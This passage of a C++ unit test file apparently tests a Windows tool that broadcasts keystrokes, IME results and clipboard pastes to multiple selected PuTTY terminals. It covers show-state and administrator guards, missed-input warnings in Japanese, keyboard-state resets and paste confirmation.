#include "broadcast/keys.h"
#include "broadcast/paste.h"
#include "registry/selection.h"
#include "app/view_state.h"
#include "arrange/arrange.h"
#include "arrange/window_actions.h"
#include "broadcast/key_state.h"

#include "tests/unit/test_support.h"

#include <algorithm>
#include <cstdint>
#include <cstring>
#include <new>

// Lets a test take away the memory for the next nothrow array, as an IME
// result too large for the address space would.
bool failNothrowArrays = false;
void* operator new[](std::size_t size, const std::nothrow_t&) noexcept {
    if (failNothrowArrays)
        return nullptr;
    try {
        return ::operator new[](size);
    } catch (...) {
        return nullptr;
    }
}

namespace {

using Strings = std::vector<std::string>;

constexpr char16_t kWarning[] = u"選択対象のPuTTYウィンドウの中に最小化されているものがあります。\n"
                                u"もう一度並べてください。";
const std::u16string kCloaked =
    u"選択対象の次のPuTTYウィンドウは別の仮想デスクトップにあります。\n"
    u"入力の結果が見えないため、送りません。そのデスクトップに移してから入力してください。\n";
const std::u16string kElevated =
    u"選択対象のPuTTYウィンドウの中に管理者として実行されているものがあります。\n"
    u"Tilewickからは入力できません。Tilewickも管理者として実行するか、選択を外してください。\n";
const std::u16string kMissed = u"次のPuTTYウィンドウにはキー入力を送れませんでした。\n"
                               u"応答していない可能性があります。\n";
const std::u16string kMissedPaste = u"次のPuTTYウィンドウには貼り付けを送れませんでした。\n"
                                    u"応答していない可能性があります。\n";
const std::u16string kChangedMidway =
    u"貼り付けの途中でクリップボードの内容が変わりました。\n"
    u"確認されていない内容になるため、残りのPuTTYウィンドウには貼り付けていません。\n\n"
    u"貼り付けたPuTTYウィンドウ：\n";
const std::u16string kChangedBeforeAny =
    u"貼り付けの前にクリップボードの内容が変わりました。\n"
    u"確認されていない内容になるため、どのPuTTYウィンドウにも貼り付けていません。\n\n";
const std::u16string kNotPasted = u"貼り付けていないPuTTYウィンドウ：\n";

constexpr unsigned kReturn = 0x0D, kShift = 0x10, kControl = 0x11, kF5 = 0x74, kF12 = 0x7B,
                   kLeft = 0x25, kOem1 = 0xBA, kDeadCircumflex = 0xDD, kProcessKey = 0xE5,
                   kPacket = 0xE7;
constexpr std::intptr_t kComposing = 0x8, kCommitted = 0x800;  // GCS_COMPSTR, GCS_RESULTSTR

// A keyboard where OEM_1 types '+' only with Shift and letters type lower case.
platform::TypedKey plusNeedsShift(unsigned vk, unsigned) {
    platform::TypedKey k;
    k.length = 1;
    k.text[0] = vk == kOem1 ? u'+' : static_cast<char16_t>(vk + 32);
    k.modified = vk == kOem1;
    return k;
}

class BroadcastTest : public AppTest {
protected:
    // Three terminals, all selected in row order a, b, c.
    std::vector<platform::WindowHandle> threeSelected() {
        auto h = discover({u"a", u"b", u"c"});
        selectAll();
        return h;
    }
    // "w<handle> key|char <code> <keyData>" for each posted message.
    Strings posted() {
        Strings out;
        for (const auto& p : desk().posted)
            out.push_back(tag(p.window) + (p.isChar ? " char " : " key ") + std::to_string(p.code) +
                          " " + std::to_string(p.keyData));
        return out;
    }
    static std::string key(platform::WindowHandle w, unsigned code, std::intptr_t data) {
        return tag(w) + " key " + std::to_string(code) + " " + std::to_string(data);
    }
    static std::string chr(platform::WindowHandle w, unsigned code, std::intptr_t data) {
        return tag(w) + " char " + std::to_string(code) + " " + std::to_string(data);
    }
    // "key <vk>" or "char <unit>" for each message one window received.
    Strings receivedBy(platform::WindowHandle w) {
        Strings out;
        for (const auto& p : desk().posted)
            if (p.window == w)
                out.push_back((p.isChar ? "char " : "key ") + std::to_string(p.code));
        return out;
    }
    std::u16string charactersTo(platform::WindowHandle w) {
        std::u16string out;
        for (const auto& p : desk().posted)
            if (p.window == w && p.isChar)
                out += static_cast<char16_t>(p.code);
        return out;
    }
    Strings mousePairs() {
        Strings out;
        for (const auto& m : desk().mouse)
            out.push_back(tag(m.first) +
                          (m.second == platform::MouseMessage::RightDown ? " down" : " up"));
        return out;
    }
};

// --- Show-state guard ----------------------------------------------------------------

TEST_F(BroadcastTest, GuardExaminesEveryWindowAndWarnsOnce) {
    struct Case {
        const char* name;
        std::vector<std::uint32_t> showCmds;  // of a, b, c
        std::vector<bool> elevated;           // runs at a higher integrity level
        std::u16string warning;               // empty: the guard passes
        std::vector<bool> cloaked = {};       // on another virtual desktop
    };
    const Case cases[] = {
        {"all normal", {1, 1, 1}, {0, 0, 0}, u""},
        {"one minimised", {1, 2, 1}, {0, 0, 0}, kWarning},
        {"one maximised", {3, 1, 1}, {0, 0, 0}, kWarning},
        {"two bad", {2, 1, 3}, {0, 0, 0}, kWarning},
        {"last bad", {1, 1, 2}, {0, 0, 0}, kWarning},
        {"one as administrator", {1, 1, 1}, {0, 1, 0}, kElevated + u"\n・b"},
        {"administrators named, minimised one too",
         {1, 2, 1},
         {1, 0, 1},
         kElevated + u"\n・a\n・c"},
        {"two on another desktop", {1, 1, 1}, {0, 0, 0}, kCloaked + u"\n・a\n・c", {1, 0, 1}},
        {"minimised, another on another desktop", {2, 1, 1}, {0, 0, 0}, kWarning, {0, 1, 0}},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = threeSelected();
        for (std::size_t i = 0; i < h.size(); ++i) {
            desk()[h[i]].placement.showCmd = c.showCmds[i];
            desk()[h[i]].elevated = c.elevated[i];
            desk()[h[i]].cloaked = !c.cloaked.empty() && c.cloaked[i];
        }
        clearCalls();
        EXPECT_EQ(checkSelectedShowState(), c.warning.empty()) << c.name;
        EXPECT_EQ(desk().callsFor("getWindowPlacement").size(), 3u) << c.name;
        EXPECT_EQ(desk().integrityLookups, 3) << c.name;
        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
        if (!c.warning.empty()) {
            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
            EXPECT_EQ(desk().warnings[0].second, u"警告");
        }
    }
}

TEST_F(BroadcastTest, IntegrityIsAskedOncePerWindowUntilRefresh) {
    auto h = threeSelected();
    broadcastKeys('A', 0x1E0001);
    broadcastKeys('B', 0x300001);
    EXPECT_EQ(desk().integrityLookups, 3);
    refreshWindows();
    broadcastKeys('C', 0x2E0001);
    EXPECT_EQ(desk().integrityLookups, 6);
    EXPECT_EQ(desk().posted.size(), 9u);
}

TEST_F(BroadcastTest, AdministratorWarningNamesTenTitlesCutShortAndCountsTheRest) {
    std::vector<std::u16string> titles;
    for (int i = 0; i < 13; ++i)
        titles.push_back(u"host" + std::u16string{static_cast<char16_t>(u'0' + i / 10),
                                                  static_cast<char16_t>(u'0' + i % 10)});
    titles[0] += std::u16string(100, u'x');
    titles[1] += std::u16string(53, u'y') + u"\U0001F600z";  // the pair would straddle the cut
    auto h = discover(titles);
    selectAll();
    for (auto w : h)
        desk()[w].elevated = true;
    broadcastKeys('A', 0x1E0001);
    std::u16string expected = kElevated + u"\n・host00" + std::u16string(54, u'x') + u"…" +
                              u"\n・host01" + std::u16string(53, u'y') + u"…";
    for (int i = 2; i < 10; ++i)
        expected += u"\n・" + titles[i];
    expected += u"\nほか 3 個";
    ASSERT_EQ(desk().warnings.size(), 1u);
    EXPECT_EQ(desk().warnings[0].first, expected);
    EXPECT_TRUE(desk().posted.empty());
}

TEST_F(BroadcastTest, GuardPassesOverAClosedWindow) {
    auto h = threeSelected();
    desk().close(h[1]);
    EXPECT_TRUE(checkSelectedShowState());
    EXPECT_TRUE(desk().warnings.empty());
    broadcastKeys('L', 0x260001);
    EXPECT_EQ(posted(), (Strings{key(h[0], 'L', 0x260001), key(h[2], 'L', 0x260001)}));
    EXPECT_TRUE(desk().warnings.empty()) << "a closed terminal is passed over in silence";
}

// --- Keys ------------------------------------------------------------------------------

TEST_F(BroadcastTest, NothingSelectedSendsAndShowsNothing) {
    discover({u"a"});
    desk()[app().allWindows[0].handle].placement.showCmd = platform::kShowMinimized;
    broadcastKeys('A', 0x1E0001);
    EXPECT_TRUE(desk().posted.empty());
    EXPECT_TRUE(desk().warnings.empty());
}

TEST_F(BroadcastTest, KeyDownsGoToEachWindowInSelectionOrderUnchanged) {
    auto h = discover({u"alpha", u"beta", u"gamma"});
    clickRow(0);
    ctrlClickRow(1);
    ctrlClickRow(2);
    desk()[h[0]].text = u"zz";
    refreshWindows();  // rows beta, gamma, zz; selection order still alpha, beta, gamma
    const std::intptr_t l = 0x260001, s = 0x1F0001, ret = 0x1C0001;
    broadcastKeys('L', l);
    broadcastKeys('S', s);
    broadcastKeys(kReturn, ret);
    EXPECT_EQ(posted(),
              (Strings{key(h[0], 'L', l), key(h[1], 'L', l), key(h[2], 'L', l), key(h[0], 'S', s),
                       key(h[1], 'S', s), key(h[2], 'S', s), key(h[0], kReturn, ret),
                       key(h[1], kReturn, ret), key(h[2], kReturn, ret)}));
}

TEST_F(BroadcastTest, BlockedKeyIsDroppedAndNothingIsPostedToAnyWindow) {
    struct Case {
        const char* name;
        void (*block)(fake::Window&);
        void (*mend)(fake::Window&);  // null: the user deselects it
        std::size_t postsAfter;
    };
    const Case cases[] = {
        {"maximised, then arranged",
         [](fake::Window& w) { w.placement.showCmd = platform::kShowMaximized; },
         [](fake::Window& w) { w.placement.showCmd = platform::kShowNormal; }, 3},
        {"as administrator, then deselected", [](fake::Window& w) { w.elevated = true; }, nullptr,
         2},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = threeSelected();
        c.block(desk()[h[2]]);
        broadcastKeys('A', 0x1E0001);
        EXPECT_TRUE(desk().posted.empty()) << c.name;
        EXPECT_EQ(desk().warnings.size(), 1u) << c.name;
        if (c.mend)
            c.mend(desk()[h[2]]);
        else
            ctrlClickRow(2);
        broadcastKeys('A', 0x1E0001);
        EXPECT_EQ(desk().posted.size(), c.postsAfter) << c.name;
        EXPECT_EQ(desk().warnings.size(), 1u) << c.name;
    }
}

TEST_F(BroadcastTest, AMissedPostIsNamedOnceWhileTheOthersGetTheInput) {
    struct Case {
        const char* name;
        std::vector<int> full, closed;  // of a, b, c, d
        void (*type)();
        Strings received;  // by each of the others
        std::u16string warning;
    };
    const Case cases[] = {
        {"a full queue",
         {1},
         {},
         [] { broadcastKeys('L', 0x260001); },
         {"key 76"},
         kMissed + u"\n・b"},
        {"two full queues, a character",
         {1, 3},
         {},
         [] { broadcastKeys(kOem1, 0x270001); },
         {"char 43"},
         kMissed + u"\n・b\n・d"},
        {"a full queue, a whole IME result",
         {0},
         {},
         [] {
             fake::desktop().imeResult = u"日本語";
             broadcastComposition(kCommitted);
         },
         {"char 26085", "char 26412", "char 35486"},
         kMissed + u"\n・a"},
        {"a full queue, a character beyond the BMP",
         {2},
         {},
         [] {
             for (char16_t unit : std::u16string(u"\U0001F600")) {
                 broadcastKeys(kPacket, 0x1);
                 broadcastCharacter(unit, 0x1);
             }
         },
         {"char 55357", "char 56832"},
         kMissed + u"\n・c"},
        {"a closed terminal is passed over",
         {},
         {2},
         [] { broadcastKeys('L', 0x260001); },
         {"key 76"},
         u""},
        {"full and closed",
         {3},
         {0},
         [] { broadcastKeys('L', 0x260001); },
         {"key 76"},
         kMissed + u"\n・d"},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = discover({u"a", u"b", u"c", u"d"});
        selectAll();
        desk().keyboard = plusNeedsShift;
        for (int i : c.full)
            desk()[h[i]].queueFull = true;
        for (int i : c.closed)
            desk().close(h[i]);
        c.type();
        for (int i = 0; i < 4; ++i) {
            const bool missed = std::count(c.full.begin(), c.full.end(), i) ||
                                std::count(c.closed.begin(), c.closed.end(), i);
            EXPECT_EQ(receivedBy(h[i]), missed ? Strings{} : c.received) << c.name << " " << i;
        }
        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
        if (!c.warning.empty()) {
            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
        }
    }
}

TEST_F(BroadcastTest, ModifiedCharacterKeysArePostedAsTheTypedCharacter) {
    auto h = discover({u"a", u"b"});
    selectAll();
    std::vector<std::pair<unsigned, unsigned>> asked;
    // The keyboard: Shift is down. Letters and ';' type their shifted character;
    // '1' types the same unshifted; a dead key types nothing yet.
    desk().keyboard = [&](unsigned vk, unsigned scan) {
        asked.push_back({vk, scan});
        platform::TypedKey k;
        if (vk >= 'A' && vk <= 'Z') {
            k.length = 1;
            k.text[0] = static_cast<char16_t>(vk);
            k.modified = true;
        } else if (vk == kOem1) {
            k.length = 1;
            k.text[0] = u'+';
            k.modified = true;
        } else if (vk == '1') {
            k.length = 1;
            k.text[0] = u'1';
        } else if (vk == 0xDE) {
            k.length = -1;
            k.modified = true;
        } else {
            k.length = 1;  // would type something under a modifier, but is no character key
            k.text[0] = u'\r';
            k.modified = true;
        }
        return k;
    };
    struct Case {
        unsigned vk;
        std::intptr_t data;
        bool asChar;
        unsigned code;
    };
    const Case cases[] = {
        {kShift, 0x2A0001, false, kShift},   {'A', 0x1E0001, true, u'A'},
        {kOem1, 0x270001, true, u'+'},       {'1', 0x020001, false, '1'},
        {kReturn, 0x1C0001, false, kReturn}, {kControl, 0x1D0001, false, kControl},
        {kF5, 0x3F0001, false, kF5},         {kF12, 0x580001, false, kF12},
        {kLeft, 0x14B0001, false, kLeft},
    };
    // Under Wine, once the queue has been looked at, the key state has
    // caught up with the Shift let go after the key: read too late, every
    // key would type as unshifted.
    desk().keyboardAfterPeek = [](unsigned vk, unsigned) {
        platform::TypedKey k;
        k.length = 1;
        k.text[0] = static_cast<char16_t>(vk >= 'A' && vk <= 'Z' ? vk + 32 : vk);
        return k;
    };
    for (const auto& c : cases) {
        desk().posted.clear();
        desk().peeked = false;  // each key handled comes with its own key state
        broadcastKeys(c.vk, c.data);
        Strings expected;
        for (auto w : h)
            expected.push_back(c.asChar ? chr(w, c.code, c.data) : key(w, c.code, c.data));
        EXPECT_EQ(posted(), expected) << "vk " << c.vk;
    }
    // The keyboard is asked about character keys only, with the key's scan code.
    EXPECT_EQ(asked, (std::vector<std::pair<unsigned, unsigned>>{
                         {'A', 0x1E}, {kOem1, 0x27}, {'1', 0x02}}));
}

TEST_F(BroadcastTest, EveryCharacterGoesOutOnceAndNoPacketOrImeKeyDownEver) {
    auto h = discover({u"a", u"b"});
    selectAll();
    desk().keyboard = plusNeedsShift;
    // What reaches commandEdit: key-downs, each followed by what its
    // TranslateMessage queued (WM_CHAR, WM_DEADCHAR).
    enum Kind { Down, Char, Dead };
    struct Message {
        Kind kind;
        unsigned code;
    };
    auto down = [](unsigned vk) { return Message{Down, vk}; };
    auto ch = [](unsigned unit) { return Message{Char, unit}; };
    const Message dead = {Dead, u'^'};
    struct Case {
        const char* name;
        std::vector<Message> input;
        Strings received;  // by each terminal
    };
    const Case cases[] = {
        {"a key's own character is not sent again", {down('L'), ch('l')}, {"key 76"}},
        {"nor a modified key's", {down(kOem1), ch('+')}, {"char 43"}},
        {"a key that types nothing", {down(kShift)}, {"key 16"}},
        {"VK_PACKET: its character only", {down(kPacket), ch(0xE9)}, {"char 233"}},
        {"a surrogate pair, high unit first",
         {down(kPacket), ch(0xD83D), down(kPacket), ch(0xDE00)},
         {"char 55357", "char 56832"}},
        {"VK_PROCESSKEY: nothing, the IME sends its result", {down(kProcessKey), ch('x')}, {}},
        {"a dead key alone: nothing", {down(kDeadCircumflex), dead}, {}},
        {"a dead key composed", {down(kDeadCircumflex), dead, down('E'), ch(0xEA)}, {"char 234"}},
        {"a dead key not composed: both",
         {down(kDeadCircumflex), dead, down('X'), ch('^'), ch('x')},
         {"char 94", "char 120"}},
        {"a dead key twice",
         {down(kDeadCircumflex), dead, down(kDeadCircumflex), ch('^'), ch('^')},
         {"char 94", "char 94"}},
        {"Shift while the dead key waits",
         {down(kDeadCircumflex), dead, down(kShift), down('E'), ch(0xCA)},
         {"key 16", "char 202"}},
        {"keys again after the composition",
         {down(kDeadCircumflex), dead, down('E'), ch(0xEA), down('L'), ch('l')},
         {"char 234", "key 76"}},
    };
    for (const auto& c : cases) {
        desk().posted.clear();
        app().typing = {};
        for (std::size_t i = 0; i < c.input.size(); ++i) {
            const Message& m = c.input[i];
            const Kind next = i + 1 < c.input.size() ? c.input[i + 1].kind : Down;
            desk().queuedTranslation = next == Char   ? platform::Translation::Character
                                       : next == Dead ? platform::Translation::DeadCharacter
                                                      : platform::Translation::Nothing;
            if (m.kind == Down)
                broadcastKeys(m.code, 0x1);
            else if (m.kind == Char)
                broadcastCharacter(static_cast<char16_t>(m.code), 0x1);
        }
        for (auto w : h)
            EXPECT_EQ(receivedBy(w), c.received) << c.name;
    }
    EXPECT_TRUE(desk().warnings.empty());
}

TEST_F(BroadcastTest, TheImeResultGoesWholeToEveryTerminalAndNothingWhileComposing) {
    std::u16string any;
    for (int i = 0; i < 20000; ++i)
        any += u"日\U0001F600ab";
    struct Case {
        const char* name;
        std::intptr_t changes;
        std::u16string result;
        bool outOfMemory;
        bool handled;
        std::u16string sent;
    };
    const Case cases[] = {
        {"composing", kComposing, u"日本", false, false, u""},
        {"committed", kCommitted, u"日本語", false, true, u"日本語"},
        {"beyond the BMP, in order", kCommitted, u"a\U0001F600b", false, true, u"a\U0001F600b"},
        {"committed as the next composition starts", kCommitted | kComposing, u"語", false, true,
         u"語"},
        {"an empty result", kCommitted, u"", false, true, u""},
        {"a result of any length", kCommitted, any, false, true, any},
        {"no memory for the result", kCommitted, u"日本語", true, true, u""},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = threeSelected();
        desk().imeResult = c.result;
        failNothrowArrays = c.outOfMemory;
        const bool handled = broadcastComposition(c.changes);
        failNothrowArrays = false;
        EXPECT_EQ(handled, c.handled) << c.name;
        for (auto w : h)
            EXPECT_TRUE(charactersTo(w) == c.sent) << c.name;
        EXPECT_EQ(desk().posted.size(), 3 * c.sent.size()) << c.name << ": nothing else is sent";
        if (!c.handled) {
            EXPECT_TRUE(desk().callsFor("imeResultText").empty()) << c.name;
        }
        EXPECT_TRUE(desk().warnings.empty()) << c.name;
    }
}

TEST_F(BroadcastTest, CharacterKeysAreClassified) {
    // Digits, letters and the OEM punctuation keys.
    for (unsigned vk : {0x30u, 0x39u, 0x41u, 0x5Au, 0xBAu, 0xC0u, 0xDBu, 0xDFu, 0xE2u})
        EXPECT_TRUE(isCharacterKey(vk)) << vk;
    // Backspace, Tab, Enter, Shift, Ctrl, Alt, Escape, arrows, Delete, F1, F12.
    for (unsigned vk :
         {0x08u, 0x09u, 0x0Du, 0x10u, 0x11u, 0x12u, 0x1Bu, 0x25u, 0x2Eu, 0x70u, 0x7Bu})
        EXPECT_FALSE(isCharacterKey(vk)) << vk;
}

// --- Terminals' own key state -----------------------------------------------------------

constexpr unsigned kBack = 0x08, kCapital = 0x14, kMenu = 0x12, kF2 = 0x71;

// What a terminal typed: each key-down with what its thread held then.
struct Typed {
    bool isChar;
    unsigned code;
    fake::KeyState held;
    bool operator==(const Typed& o) const {
        return isChar == o.isChar && code == o.code && held == o.held;
    }
};

std::ostream& operator<<(std::ostream& os, const Typed& t) {
    os << (t.isChar ? "char " : "key ") << t.code << " holding";
    for (unsigned vk : t.held.down)
        os << " " << vk;
    return os << (t.held.capsLock ? " caps" : "");
}

class KeyStateTest : public BroadcastTest {
protected:
    // Terminal `t` comes to the front and takes the key going down; its
    // key-up then goes to Tilewick, back in front.
    void leaveHolding(platform::WindowHandle t, unsigned vk) {
        desk().foreground = t;
        desk().realKey(vk, true);
        if (vk == kCapital)
            desk().realKey(vk, false);  // Caps Lock stays on in the terminal
        desk().foreground = app().mainWindow;
        if (vk != kCapital)
            desk().realKey(vk, false);
    }
    std::vector<Typed> typedBy(platform::WindowHandle w) {
        std::vector<Typed> out;
        for (const auto& p : desk().posted)
            if (p.window == w)
                out.push_back({p.isChar, static_cast<unsigned>(p.code), p.receiverState});
        return out;
    }
    std::size_t resets() { return desk().callsFor("resetKeyboardState").size(); }
};

// Whatever a terminal was left holding, it types under no key at all, as a
// terminal nobody touched would; what the user holds in Tilewick still counts.
TEST_F(KeyStateTest, StaleKeysInATerminalNeverChangeWhatItTypes) {
    const struct {
        const char* name;
        unsigned vk;
        Typed typed;  // held: what Tilewick's own thread holds while typing
    } keys[] = {
        {"character key", 'L', {false, 'L', {}}},
        {"modified character key", kOem1, {true, u'+', {}}},
        {"Enter", kReturn, {false, kReturn, {}}},
        {"Backspace", kBack, {false, kBack, {}}},
        {"Left", kLeft, {false, kLeft, {}}},
        {"F2", kF2, {false, kF2, {}}},
    };
    // A busy terminal reads the key going down only after Tilewick, activated,
    // has reset it.
    for (const bool busy : {false, true}) {
        for (unsigned stale : {kControl, kShift, kMenu, kCapital}) {
            for (const auto& k : keys) {
                SetUp();
                auto h = discover({u"host01", u"host02"});
                selectAll();
                desk().keyboard = plusNeedsShift;
                desk()[h[0]].busy = busy;
                leaveHolding(h[0], stale);
                if (busy) {
                    forgetKeyStates();  // Tilewick activated, and the reset that posts
                    resetStaleKeyStates();
                    desk().takeQueuedInput(h[0]);
                } else {
                    restoreFromHotKey();  // the user came back to Tilewick
                }
                broadcastKeys(k.vk, 0x1);
                for (auto w : h)
                    EXPECT_EQ(typedBy(w), std::vector<Typed>{k.typed})
                        << k.name << " after " << stale << (busy ? ", busy" : "");
            }
        }
    }
}

// Once per terminal after each event that may have left it holding keys, not
// once per key: typing to fifty terminals costs what it did.
TEST_F(KeyStateTest, EachTerminalIsResetOnceAfterEveryEventThatMayHaveLeftItHoldingKeys) {
    const struct {
        const char* name;
        void (*event)();
        std::size_t resets;        // of the three selected terminals, in all
        std::size_t onTheKeyPath;  // of those, made while keys went out
    } events[] = {
        // The main window resets them as it is activated, off the key path,
        // and once more at the first key, for a terminal that was busy.
        {"Tilewick activated",
         [] {
             forgetKeyStates();
             resetStaleKeyStates();
         },
         6, 3},
        {"the hot key", restoreFromHotKey, 3, 3},
        {"arrange", arrangeWindows, 3, 3},
        {"raise", raiseSelected, 3, 3},
        {"hide others", hideOthers, 3, 3},
        {"flash", flashSelected, 3, 3},
        {"nothing", [] {}, 0, 0},
    };
    for (const auto& e : events) {
        SetUp();
        auto h = threeSelected();
        broadcastKeys('L', 0x1);
        EXPECT_EQ(resets(), 3u) << e.name << ": the first key ever";
        broadcastKeys('S', 0x1);
        EXPECT_EQ(resets(), 3u) << e.name << ": a second key";
        clearCalls();
        e.event();
        const std::size_t before = resets();
        broadcastKeys('L', 0x1);
        broadcastKeys('S', 0x1);
        EXPECT_EQ(resets(), e.resets) << e.name;
        EXPECT_EQ(resets() - before, e.onTheKeyPath) << e.name;
    }
}

TEST_F(KeyStateTest, ANewlySelectedTerminalIsResetBeforeItsFirstKeyAndNoOtherAgain) {
    auto h = discover({u"a", u"b", u"c"});
    clickRow(0);
    broadcastKeys('L', 0x1);
    ctrlClickRow(2);
    clearCalls();
    broadcastKeys('L', 0x1);
    EXPECT_EQ(desk().callsFor("resetKeyboardState"), Strings{"resetKeyboardState " + tag(h[2])});
}

// Hung, closed and elevated terminals: no wait, and the same posts, refusals
// and warnings as before; a terminal the reset did not reach is tried again.
TEST_F(KeyStateTest, TerminalsThatCannotBeResetAreHandledAsBefore) {
    const struct {
        const char* name;
        void (*make)(fake::Desktop&, platform::WindowHandle);
        Strings resetsFirst;  // of b's, for the first key; the second key too
        std::size_t postsToB;
        std::size_t warnings;  // for the two keys
    } cases[] = {
        {"reported hung: passed over, posted to as before",
         [](fake::Desktop& d, platform::WindowHandle w) { d[w].hung = d[w].hungReported = true; },
         {},
         2,
         0},
        {"closed: passed over without a word",
         [](fake::Desktop& d, platform::WindowHandle w) { d.close(w); },
         {"b", "b"},
         0,
         0},
        {"elevated: the guard refuses every key as before",
         [](fake::Desktop& d, platform::WindowHandle w) { d[w].elevated = true; },
         {},
         0,
         2},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = threeSelected();
        c.make(desk(), h[1]);
        broadcastKeys('L', 0x1);
        broadcastKeys('S', 0x1);
        const Strings resetsOfB(desk().callsFor("resetKeyboardState " + tag(h[1])).size(), "b");
        EXPECT_EQ(resetsOfB, c.resetsFirst) << c.name;
        EXPECT_EQ(receivedBy(h[1]).size(), c.postsToB) << c.name;
        EXPECT_EQ(desk().warnings.size(), c.warnings) << c.name;
        EXPECT_TRUE(desk().blocked.empty()) << c.name;
        EXPECT_EQ(desk().waitedMs, 0u) << c.name;
        if (c.warnings == 0) {
            EXPECT_EQ(receivedBy(h[0]), (Strings{"key 76", "key 83"})) << c.name;
        }
    }
}

// --- Paste ------------------------------------------------------------------------------

class PasteTest : public BroadcastTest {
protected:
    std::vector<platform::WindowHandle> ready(const std::u16string& clip) {
        auto h = threeSelected();
        desk().setClipboardText(clip);
        desk().focus = app().controls.commandEdit;
        return h;
    }
    void expectClipboardGivenBack() {
        EXPECT_FALSE(desk().clipboardOpen);
        EXPECT_FALSE(desk().clipboardLocked);
    }
};

TEST_F(PasteTest, LineBreaksDecideWhetherToAsk) {
    struct Case {
        std::u16string text;
        bool confirm;
        bool asks;
    };
    const Case cases[] = {
        {u"ls -l", true, false},     {u"one\r\ntwo", true, true}, {u"one\ntwo", true, true},
        {u"one\rtwo\r", true, true}, {u"ends\n", true, true},     {u"\n", true, true},
        {u"cr-a\rcr-b", true, true}, {u"ends\r", true, true},     {u"one\r\ntwo", false, false},
        {u"ends\n", false, false},   {u"ends\r", false, false},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = ready(c.text);
        app().settings.pasteConfirm = c.confirm;
        broadcastPaste();
        const std::string name = fake::narrow(c.text);
        EXPECT_EQ(pasteDialogRuns, c.asks ? 1 : 0) << name;
        expectClipboardGivenBack();
        if (c.asks) {
            EXPECT_EQ(pasteDialogText, c.text) << name;
            EXPECT_TRUE(desk().mouse.empty()) << name;
        } else {
            EXPECT_EQ(mousePairs().size(), 6u) << name;
            EXPECT_TRUE(app().clipboardCopy.empty()) << name;
        }
    }
}

TEST_F(PasteTest, PairsGoWindowAfterWindowDownThenUp) {
    auto h = ready(u"echo hi");
    clearCalls();
    broadcastPaste();
    const std::string t = " " + std::to_string(kPasteSendTimeoutMs);
    // The guard reads every placement first, then the pairs follow.
    EXPECT_EQ(calls(),
              (Strings{"getWindowPlacement " + tag(h[0]), "getWindowPlacement " + tag(h[1]),
                       "getWindowPlacement " + tag(h[2]), "rightDown " + tag(h[0]) + t,
                       "rightUp " + tag(h[0]) + t, "rightDown " + tag(h[1]) + t,
                       "rightUp " + tag(h[1]) + t, "rightDown " + tag(h[2]) + t,
                       "rightUp " + tag(h[2]) + t}));
}

TEST_F(PasteTest, EachHungTerminalCostsOneShortProbeIsNamedAndTheOthersStillPaste) {
    struct Case {
        const char* name;
        std::vector<int> hung;
        bool reported;  // SMTO_ABORTIFHUNG gives up at once on those
        int closed;     // -1: none
    };
    const Case cases[] = {
        {"two of five just stopped", {1, 3}, false, -1},
        {"first and last just stopped", {0, 4}, false, -1},
        {"two of five reported hung", {0, 2}, true, -1},
        {"one stopped, one closed", {4}, false, 0},
    };
    for (const auto& c : cases) {
        SetUp();
        auto h = discover({u"a", u"b", u"c", u"d", u"e"});
        selectAll();
        desk().setClipboardText(u"echo hi");
        desk().focus = app().controls.commandEdit;
        for (int i : c.hung) {
            desk()[h[i]].hung = true;
            desk()[h[i]].hungReported = c.reported;
        }
        if (c.closed >= 0)
            desk().close(h[c.closed]);
        broadcastPaste();
        Strings pasted, downs;
        std::u16string named = kMissedPaste;
        for (int i = 0; i < 5; ++i) {
            const bool hung = std::find(c.hung.begin(), c.hung.end(), i) != c.hung.end();
            if (hung)
                named += u"\n・" + std::u16string(1, static_cast<char16_t>(u'a' + i));
            if (i != c.closed && !hung) {
                pasted.push_back(tag(h[i]) + " down");
                pasted.push_back(tag(h[i]) + " up");
                downs.push_back("rightDown " + tag(h[i]) + " " +
                                std::to_string(kPasteSendTimeoutMs));
            }
        }
        EXPECT_EQ(mousePairs(), pasted) << c.name;
        EXPECT_EQ(desk().callsFor("rightDown"), downs) << c.name << ": nothing sent to a hung one";
        EXPECT_EQ(desk().waitedMs, c.reported ? 0u : c.hung.size() * kPasteProbeMs) << c.name;
        ASSERT_EQ(desk().warnings.size(), 1u) << c.name;
        EXPECT_EQ(desk().warnings[0].first, named) << c.name;
    }
}

TEST_F(PasteTest, ConfirmAndCancel) {
    auto h = ready(u"a\r\nb");
    broadcastPaste();
    ASSERT_EQ(pasteDialogRuns, 1);
    EXPECT_EQ(std::u16string(pendingPasteText()), u"a\r\nb");
    cancelPaste();
    EXPECT_TRUE(desk().mouse.empty());
    EXPECT_TRUE(app().clipboardCopy.empty());

    broadcastPaste();
    confirmPaste();
    EXPECT_EQ(mousePairs(), (Strings{tag(h[0]) + " down", tag(h[0]) + " up", tag(h[1]) + " down",
                                     tag(h[1]) + " up", tag(h[2]) + " down", tag(h[2]) + " up"}));
    EXPECT_TRUE(app().clipboardCopy.empty());
    EXPECT_EQ(std::u16string(pendingPasteText()), u"");
    EXPECT_TRUE(desk().warnings.empty());

    // Replaced while the box is open: what the user saw is not what the
    // terminals would paste, so none does.
    desk().mouse.clear();
    broadcastPaste();
    desk().setClipboardText(u"replaced");
    confirmPaste();
    EXPECT_TRUE(desk().mouse.empty());
    EXPECT_TRUE(app().clipboardCopy.empty());
    EXPECT_EQ(desk().warnings.size(), 1u);

    // OK pressed again in the box while a paste's warning is open pastes nothing more.
    desk().setClipboardText(u"a\r\nb");
    desk()[h[1]].hung = true;
    broadcastPaste();
    desk().duringCall = [](const std::string&, platform::WindowHandle) { confirmPaste(); };
    confirmPaste();
    EXPECT_EQ(mousePairs(), (Strings{tag(h[0]) + " down", tag(h[0]) + " up", tag(h[2]) + " down",
                                     tag(h[2]) + " up"}));
    EXPECT_EQ(desk().warnings.size(), 2u);
}

TEST_F(PasteTest, NothingHappensWhen) {
    struct Case {
        const char* name;
        void (*arrange)(fake::Desktop&);
        int clipboardOpens;
        std::size_t warnings;
    };
    const Case cases[] = {
